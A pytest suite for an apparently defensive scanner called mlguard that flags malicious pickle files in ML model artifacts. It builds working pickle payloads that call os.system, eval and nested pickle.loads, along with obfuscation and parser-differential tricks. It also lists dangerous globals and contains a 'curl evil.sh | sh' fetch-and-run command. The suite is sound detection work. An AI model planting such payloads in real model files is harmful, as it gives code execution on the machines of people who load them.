"""One generated fixture per technique family of THREATS.md §1: rule id and severity asserted.

Every stream here is built and scanned, never loaded.
"""
import pickle
import struct

import pytest

from mlguard import Severity, scan_bytes, scan_tree
from tests.conftest import malicious_pickle
from tests.pickle_asm import Asm, call


def findings(data, name="model.pkl", **kw):
    return scan_bytes(data, name=name, **kw).findings


def rules(data, name="model.pkl"):
    return {(f.rule_id, f.severity) for f in findings(data, name)}


CRITICAL = ("pickle-dangerous-global", Severity.CRITICAL)


# 1. Direct RCE primitives (and the names CPython maps to them)
@pytest.mark.parametrize("module, name", [
    ("os", "system"), ("posix", "system"), ("nt", "system"), ("os", "execv"), ("os", "popen"),
    ("subprocess", "Popen"), ("subprocess", "check_output"), ("pty", "spawn"), ("builtins", "eval"),
    ("builtins", "exec"), ("builtins", "__import__"), ("builtins", "getattr"), ("__builtin__", "eval"),
    ("runpy", "_run_code"), ("ctypes", "CDLL"), ("asyncio", "create_subprocess_shell"),
    ("_posixsubprocess", "fork_exec"), ("multiprocessing.util", "spawnv_passfds"), ("marshal", "loads"),
    ("types", "FunctionType"), ("commands", "getoutput"),
])
def test_rce_primitives_are_critical(module, name):
    for protocol in (0, 2, 4):
        data = call(module, name, "id", protocol=protocol)
        assert CRITICAL in rules(data), (module, name, protocol)


# 2. Interpreters hidden in innocent modules
@pytest.mark.parametrize("module, name", [
    ("code", "InteractiveInterpreter.runsource"), ("cProfile", "run"), ("profile", "run"), ("pdb", "run"),
    ("bdb", "Bdb.run"), ("trace", "Trace.run"), ("timeit", "timeit"), ("doctest", "debug_script"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode"), ("numpy.testing._private.utils", "runstring"),
    ("numpy.f2py", "compile"), ("torch.jit", "CompilationUnit"), ("torch.utils.cpp_extension", "load_inline"),
    ("torch.serialization", "load"), ("torch.hub", "load"),
])
def test_interpreters_in_innocent_modules_are_critical(module, name):
    assert CRITICAL in rules(call(module, name, "print(1)"))


# 3. String-to-callable trampolines: the import never appears as a global of its own
@pytest.mark.parametrize("module, name", [
    ("pkgutil", "resolve_name"), ("pydoc", "locate"), ("importlib", "import_module"),
    ("operator", "attrgetter"), ("operator", "methodcaller"), ("builtins", "vars"),
    ("hydra.utils", "get_method"), ("logging.config", "dictConfig"),
])
def test_trampolines_are_critical(module, name):
    a = Asm(4).stack_global(module, name).str("os:system").op(pickle.TUPLE1).op(pickle.REDUCE)
    data = a.str("id").op(pickle.TUPLE1).op(pickle.REDUCE).stop()  # resolve_name('os:system')('id')
    assert CRITICAL in rules(data)


# 4. Nested deserializers: the embedded bytes are scanned too
def test_pickle_loads_of_embedded_pickle():
    inner = malicious_pickle(cmd="echo inner")
    data = Asm(4).stack_global("pickle", "loads").bytes_(inner).op(pickle.TUPLE1).op(pickle.REDUCE).stop()
    result = findings(data)
    embedded = [f for f in result if f.rule_id == "pickle-embedded-payload"]
    assert embedded and embedded[0].severity is Severity.CRITICAL
    inner_hits = [f for f in result if f.rule_id == "pickle-dangerous-global" and f.location.member]
    assert inner_hits and inner_hits[0].location.member.startswith("pickle.loads@0x")
    assert inner_hits[0].evidence["name"] == "system"


def test_every_call_of_a_deserializer_or_wrapper_is_read():
    """The scanner reads compact facts, which group the calls of a callable with its first call's arguments; for
    a deserializer or a wrapper it reads every call: a payload in the second pickle.loads call is scanned, and
    a partial that wraps a safe global first and an unknown one second is not judged safe."""
    a = Asm(4).stack_global("pickle", "loads").put(0).bytes_(pickle.dumps(1)).op(pickle.TUPLE1).op(pickle.REDUCE)
    a = a.op(pickle.POP).get(0).bytes_(malicious_pickle(cmd="echo second")).op(pickle.TUPLE1).op(pickle.REDUCE)
    result = findings(a.stop())
    assert len([f for f in result if f.rule_id == "pickle-embedded-payload"]) == 2
    assert any(f.location.member and f.evidence.get("name") == "system" for f in result)
    a = Asm(4).stack_global("functools", "partial").put(0).stack_global("collections", "OrderedDict")
    a = a.op(pickle.TUPLE1).op(pickle.REDUCE).op(pickle.POP)
    a = a.get(0).stack_global("mypkg.tools", "run").op(pickle.TUPLE1).op(pickle.REDUCE).op(pickle.EMPTY_TUPLE)
    result = findings(a.op(pickle.REDUCE).stop())
    assert ("pickle-dangerous-global", "functools") in {(f.rule_id, f.evidence.get("module")) for f in result}


@pytest.mark.parametrize("module, name", [("torch.storage", "_load_from_bytes"), ("_pickle", "loads"),
                                          ("cPickle", "loads"), ("dill", "loads")])
def test_other_nested_deserializers(module, name):
    inner = malicious_pickle()
    data = Asm(2).global_(module, name).bytes_(inner).op(pickle.TUPLE1).op(pickle.REDUCE).stop()
    result = findings(data)
    assert {"pickle-embedded-payload", "pickle-dangerous-global"} <= {f.rule_id for f in result}
    assert any(f.location.member and f.evidence.get("name") == "system" for f in result)


def test_eval_of_embedded_source_shows_the_code():
    data = call("builtins", "eval", "__import__('os').system('id')")
    result = findings(data)
    assert {f.rule_id for f in result} >= {"pickle-dangerous-global", "pickle-embedded-payload"}
    assert any("__import__" in (f.snippet or "") for f in result)


# 5. Obfuscated operands
def test_stack_global_operands_from_the_memo():
    a = Asm(4).str("os").put(1).str("system").put(2).op(pickle.POP).op(pickle.POP)
    data = a.get(1).get(2).op(pickle.STACK_GLOBAL).str("id").op(pickle.TUPLE1).op(pickle.REDUCE).stop()
    hits = [f for f in findings(data) if f.rule_id == "pickle-dangerous-global"]
    assert hits and hits[0].evidence["module"] == "os"


def test_text_protocol_string_and_unicode_operands():
    data = b"(S'os'\nVsys\\u0074em\n\x93(S'id'\ntR."
    assert CRITICAL in rules(data)


def test_operands_computed_at_load_time_are_opaque():
    # builtins.str('os') computes the module name: nothing static can know it
    a = Asm(4).stack_global("builtins", "str").str("os").op(pickle.TUPLE1).op(pickle.REDUCE)
    data = a.str("system").op(pickle.STACK_GLOBAL).str("id").op(pickle.TUPLE1).op(pickle.REDUCE).stop()
    assert ("pickle-stack-global-opaque", Severity.HIGH) in rules(data)


def test_payload_after_a_large_benign_prefix():
    prefix = pickle.dumps([float(i) for i in range(200_000)], protocol=4)[:-1]  # drop STOP
    data = prefix + call("os", "system", "id", protocol=4)[2:]
    assert CRITICAL in rules(data)


# 6. Parser differentials
def test_second_pickle_in_a_file_is_analysed():
    data = pickle.dumps({"benign": 1}, protocol=2) + malicious_pickle(protocol=2)
    got = rules(data)
    assert CRITICAL in got and ("pickle-multiple-streams", Severity.LOW) in got


def test_malformed_tail_after_reduce_keeps_the_call():
    data = call("os", "system", "id", protocol=2)[:-1] + b"\xfe\xfe"
    got = rules(data)
    assert CRITICAL in got and ("pickle-parse-error", Severity.MEDIUM) in got


def test_get_of_missing_memo_key_is_an_error_after_the_call():
    data = call("os", "system", "id", protocol=2)[:-1] + pickle.BINGET + b"\x09" + pickle.STOP
    assert {"pickle-dangerous-global", "pickle-parse-error"} <= {r for r, _ in rules(data)}


# 7. Side effects short of RCE, and ML Guard itself
@pytest.mark.parametrize("module, name, expected", [
    ("_io", "FileIO", CRITICAL), ("builtins", "open", CRITICAL), ("logging", "FileHandler", CRITICAL),
    ("shutil", "rmtree", CRITICAL), ("webbrowser", "open", CRITICAL), ("pip", "main", CRITICAL),
    ("torch.hub", "load", CRITICAL), ("mlguard.policy", "Policy", CRITICAL), ("mlguard_rs", "pickle_facts", CRITICAL),
    ("socket", "create_connection", ("pickle-suspicious-module", Severity.HIGH)),
    ("urllib.request", "urlopen", ("pickle-suspicious-module", Severity.HIGH)),
    ("smtplib", "SMTP", ("pickle-suspicious-module", Severity.HIGH)),
])
def test_side_effects_are_high_or_critical(module, name, expected):
    assert expected in rules(call(module, name, "x"))


# Dotted names (protocol >= 4)
@pytest.mark.parametrize("module, name", [("torch.serialization", "os.system"), ("logging", "os.system"),
                                          ("collections", "os.popen")])
def test_dotted_traversal_to_a_denied_name_is_critical(module, name):
    data = call(module, name, "id")
    hits = [f for f in findings(data) if f.rule_id == "pickle-dangerous-global"]
    assert hits and hits[0].evidence["name"] == name


def test_dotted_traversal_not_allowlisted_is_high():
    assert ("pickle-dotted-global", Severity.HIGH) in rules(call("collections", "OrderedDict.fromkeys", "ab"))


# Allowlist-first: unknown globals, EXT codes
def test_unknown_global_called_is_high_referenced_is_medium():
    called = call("mypkg.evil", "helper", "x")
    assert rules(called) == {("pickle-unknown-call", Severity.HIGH)}
    referenced = Asm(4).stack_global("mypkg.evil", "Thing").stop()
    assert rules(referenced) == {("pickle-unknown-global", Severity.MEDIUM)}


def test_a_million_imports_of_one_name_are_one_finding_in_bounded_memory(tmp_path):
    """A crafted 6 MB stream importing one name 10^6 times took 585 MiB and 10 s when every import was a
    fact; identical imports are one fact with a count, so the scan is fast and small."""
    import os
    import subprocess
    import sys

    path = tmp_path / "imports.pkl"
    path.write_bytes(b"\x80\x02" + b"cmypkg\nthing\n0" * 1_000_000 + b"N.")
    if not os.path.exists("/proc/self/status"):
        pytest.skip("needs /proc/self/status (VmHWM)")
    code = ("import sys, mlguard; r = mlguard.scan_file(sys.argv[1]);"
            "print([(f.rule_id, f.evidence.get('count')) for f in r.findings]);"
            "print([l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM')][0])")
    out = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, check=True)
    found, peak_kib = out.stdout.splitlines()
    assert found == "[('pickle-unknown-global', 1000000)]"
    assert int(peak_kib) < 100 * 1024, peak_kib


def test_a_million_distinct_imports_stop_at_the_fact_limit_in_bounded_memory(tmp_path):
    """990,000 distinct imports (14.6 MB) made 990,000 facts, 730 MB of Python dicts and 20 s; the analysis
    now stops at `pickle.max_facts` (100,000, ~53 MB) and says which key raises it."""
    import os
    import subprocess
    import sys

    if not os.path.exists("/proc/self/status"):
        pytest.skip("needs /proc/self/status (VmHWM)")
    path = tmp_path / "imports.pkl"
    path.write_bytes(b"\x80\x02" + b"".join(b"cm%d\nn%d\n0" % (i % 1000, i) for i in range(990_000)) + b"N.")
    code = ("import sys, mlguard; r = mlguard.scan_file(sys.argv[1]);"
            "print(sorted(f.evidence['limit'] for f in r.findings if f.rule_id == 'pickle-limit-exceeded'));"
            "print([f.message for f in r.findings if f.evidence.get('limit') == 'facts']);"
            "print([l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM')][0])")
    out = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, check=True)
    limits, message, peak_kib = out.stdout.splitlines()
    assert limits == "['facts', 'findings']"
    assert "raise `pickle.max_facts` in .ml-guard.yml" in message
    assert int(peak_kib) < 200 * 1024, peak_kib


def test_the_fact_limit_is_a_scanner_option(tmp_path):
    """A file past the fact limit is reported; with `pickle.max_facts` raised it is analysed to its end."""
    (tmp_path / "imports.pkl").write_bytes(b"\x80\x02" + b"".join(b"cmypkg\nthing%d\n0" % i for i in range(300))
                                           + b"N.")
    (tmp_path / ".ml-guard.yml").write_text("pickle:\n  max_facts: 100\n")
    hit = [f for f in scan_tree(tmp_path).findings if f.rule_id == "pickle-limit-exceeded"]
    assert [(f.severity, f.evidence["limit"]) for f in hit] == [(Severity.HIGH, "facts")]
    (tmp_path / ".ml-guard.yml").write_text("pickle:\n  max_facts: 1000\n")
    assert [f.evidence["limit"] for f in scan_tree(tmp_path).findings if f.rule_id == "pickle-limit-exceeded"] == []


def test_thousands_of_distinct_imports_report_the_most_severe_and_count_the_rest():
    """One finding per distinct import off the allowlist, up to 1,000 (10^6 of them took 90 s and 5 GB to
    report one by one); the denylisted import at the very end is still among those reported."""
    data = b"\x80\x02" + b"".join(b"cmypkg\nthing%d\n0" % i for i in range(1500)) + b"cos\nsystem\n0N."
    found = findings(data)
    by_rule = {}
    for f in found:
        by_rule.setdefault(f.rule_id, []).append(f)
    assert len(by_rule["pickle-unknown-global"]) == 999
    assert [f.evidence["name"] for f in by_rule["pickle-dangerous-global"]] == ["system"]
    [limit] = by_rule["pickle-limit-exceeded"]
    assert limit.severity is Severity.HIGH and limit.evidence == {"limit": "findings", "unreported": 501}
    assert "1,501 distinct imports" in limit.message


def test_ext_opcodes_are_high():
    data = Asm(2).op(pickle.EXT1, b"\x07").op(pickle.EMPTY_TUPLE).op(pickle.REDUCE).stop()
    assert ("pickle-ext-opcode", Severity.HIGH) in rules(data)


def test_snippet_shows_the_command():
    f = next(f for f in findings(malicious_pickle(cmd="curl evil.sh | sh")) if f.rule_id == "pickle-dangerous-global")
    assert "curl evil.sh | sh" in f.snippet


def test_frame_violation_is_reported_with_the_payload():
    body = bytes(Asm(None).global_("os", "system").str("id").op(pickle.TUPLE1).op(pickle.REDUCE)) + pickle.STOP
    # a FRAME that ends in the middle of the GLOBAL's argument: loaders disagree on what follows
    data = pickle.PROTO + b"\x04" + pickle.FRAME + (5).to_bytes(8, "little") + body
    got = rules(data)
    assert ("pickle-frame-violation", Severity.HIGH) in got and CRITICAL in got
    violation = next(f for f in findings(data) if f.rule_id == "pickle-frame-violation")
    assert violation.evidence["kind"] == "crosses-frame-end"


def test_clean_framed_pickles_have_no_violation():
    big = pickle.dumps([{"k": i, "v": str(i) * 10} for i in range(20_000)], protocol=5)
    assert rules(big) == set()


def test_joblib_files_are_read_both_ways(tmp_path):
    joblib = pytest.importorskip("joblib")
    np = pytest.importorskip("numpy")
    from tests.conftest import Exploit
    path = tmp_path / "model.joblib"
    joblib.dump({"weights": np.arange(1000.0), "hook": Exploit()}, path, compress=0)
    result = scan_bytes(path.read_bytes(), name="model.joblib")
    assert CRITICAL in {(f.rule_id, f.severity) for f in result.findings}
    assert "pickle-parse-error" not in {f.rule_id for f in result.findings}


# Wrappers: getattr(G, 'name') and partial(F) are judged by what they wrap
def test_getattr_of_a_safe_class_attribute_is_judged_as_that_attribute():
    benign = Asm(4).stack_global("builtins", "getattr").stack_global("zoneinfo", "ZoneInfo").str("_unpickle")
    benign = benign.op(pickle.TUPLE2).op(pickle.REDUCE).str("Europe/Paris").op(pickle.TUPLE1).op(pickle.REDUCE).stop()
    assert rules(benign) == set()
    evil = Asm(4).stack_global("builtins", "getattr").stack_global("zoneinfo", "ZoneInfo").str("__init__")
    evil = evil.op(pickle.TUPLE2).op(pickle.REDUCE).stop()
    assert CRITICAL in rules(evil)
    computed = Asm(4).stack_global("builtins", "getattr").stack_global("builtins", "str").op(pickle.EMPTY_TUPLE)
    computed = computed.op(pickle.REDUCE).str("x").op(pickle.TUPLE2).op(pickle.REDUCE).stop()
    assert CRITICAL in rules(computed)


def test_partial_of_a_safe_callable_only():
    benign = Asm(4).stack_global("functools", "partial").stack_global("sklearn.utils.validation", "check_array")
    assert rules(benign.op(pickle.TUPLE1).op(pickle.REDUCE).stop()) == set()  # check_array is allowlisted
    evil = Asm(4).stack_global("functools", "partial").stack_global("os", "system").str("id")
    evil = evil.op(pickle.TUPLE2).op(pickle.REDUCE).stop()
    assert CRITICAL in rules(evil)


def test_paths_pickled_by_newer_pythons_are_safe():
    data = call("pathlib._local", "PosixPath", "/data/train", protocol=4)
    assert rules(data) == set()


def test_joblib_array_bytes_that_plain_pickle_runs_are_found(tmp_path):
    """Array data joblib.load skips is opcodes to pickle.load: a payload placed there is still reported."""
    joblib = pytest.importorskip("joblib")
    np = pytest.importorskip("numpy")
    from mlguard import engine
    payload = b"cos\nsystem\n(S'id'\ntR."
    path = tmp_path / "a.joblib"
    joblib.dump(np.zeros(len(payload), np.uint8), path, compress=0)
    data = path.read_bytes()
    span = engine.pickle_facts(data)["raw_spans"][0]
    # no alignment padding (the pre-1.2 layout): the array bytes follow BUILD directly
    data = data.replace(b"numpy_array_alignment_bytes", b"numpy_array_alignment_bytez")
    start = span["offset"] - span["padding"]
    data = data[:start] + payload + data[span["offset"] + span["length"]:]
    hits = [f for f in findings(data, "a.joblib") if f.rule_id == "pickle-dangerous-global"]
    assert hits and hits[0].evidence["module"] == "os"


def test_unknown_names_where_pickle_load_misreads_joblib_array_data_are_low(tmp_path):
    """pickle.load runs joblib's array data as opcodes. For an ordinary file (here an object array's nested
    pickle) that misreading meets names that mean nothing (``joblib.numpy_pickle.dtype``, called): reported low.
    The same unknown call, and a computed import, in a plain pickle stay high; a denylisted name in array data
    keeps its severity (the test above)."""
    joblib = pytest.importorskip("joblib")
    np = pytest.importorskip("numpy")
    path = tmp_path / "a.joblib"
    joblib.dump({"cats": [np.array(["a", "b"], dtype=object)], "w": np.zeros(2)}, path)
    found = findings(path.read_bytes(), "a.joblib")
    assert [(f.rule_id, f.severity, f.evidence["joblib_array_data"]) for f in found] == [
        ("pickle-unknown-call", Severity.LOW, True)]
    plain = findings(b"\x80\x04cjoblib.numpy_pickle\ndtype\n)R." + b"cbuiltins\nstr\n(S'os'\ntRS'system'\n\x93.",
                     "a.pkl")
    assert sorted((f.rule_id, f.severity, f.evidence.get("joblib_array_data")) for f in plain) == [
        ("pickle-multiple-streams", Severity.LOW, None), ("pickle-stack-global-opaque", Severity.HIGH, False),
        ("pickle-unknown-call", Severity.HIGH, False)]


def test_the_opcode_limit_is_high_and_names_the_option_that_raises_it(tmp_path):
    """Past the opcode limit the rest is not analysed: reported high, with the `.ml-guard.yml` key that raises
    the limit; with the limit raised, the same benign file is clean."""
    path = tmp_path / "rows.pkl"
    path.write_bytes(pickle.dumps([{"id": i, "name": f"n{i}"} for i in range(500)], protocol=4))
    (tmp_path / ".ml-guard.yml").write_text("pickle:\n  max_opcodes: 1000\n")
    hit = [f for f in scan_tree(tmp_path).findings if f.rule_id == "pickle-limit-exceeded"]
    assert [(f.severity, f.evidence["limit"]) for f in hit] == [(Severity.HIGH, "opcodes")]
    assert "raise `pickle.max_opcodes` in .ml-guard.yml" in hit[0].message
    (tmp_path / ".ml-guard.yml").write_text("pickle:\n  max_memo: 100\n  max_opcodes: 100000\n")
    assert scan_tree(tmp_path).findings == ()


def test_past_the_memo_budget_the_analysis_goes_on(tmp_path):
    """A big benign pickle (here 1,000 memoized objects against a budget of 100) is scanned to its end in bounded
    memory and raises nothing; a payload after the budget, reaching its callable through the memo, is found."""
    rows = pickle.dumps([{"id": i, "name": f"n{i}"} for i in range(500)], protocol=2)
    payload = (b"cposix\nsystem\n" + b"r" + struct.pack("<I", 5000) + b"0"    # memo[5000] = posix.system
               + b"j" + struct.pack("<I", 5000) + b"X\x0a\x00\x00\x00echo pwned\x85R.")
    (tmp_path / "rows.pkl").write_bytes(rows)
    (tmp_path / "evil.pkl").write_bytes(rows[:-1] + b"0" + payload)
    (tmp_path / ".ml-guard.yml").write_text("pickle:\n  max_memo: 100\n")
    result = scan_tree(tmp_path)
    assert {(f.path, f.rule_id, f.severity) for f in result.findings} == {
        ("evil.pkl", "pickle-dangerous-global", Severity.CRITICAL)}


def test_the_stack_limit_is_high_and_not_configurable():
    data = b"\x80\x04" + b"(" * 1_100_000 + b"."
    hit = [f for f in findings(data) if f.rule_id == "pickle-limit-exceeded"]
    assert [(f.severity, f.evidence["limit"]) for f in hit] == [(Severity.HIGH, "stack")]
    assert "raise" not in hit[0].message
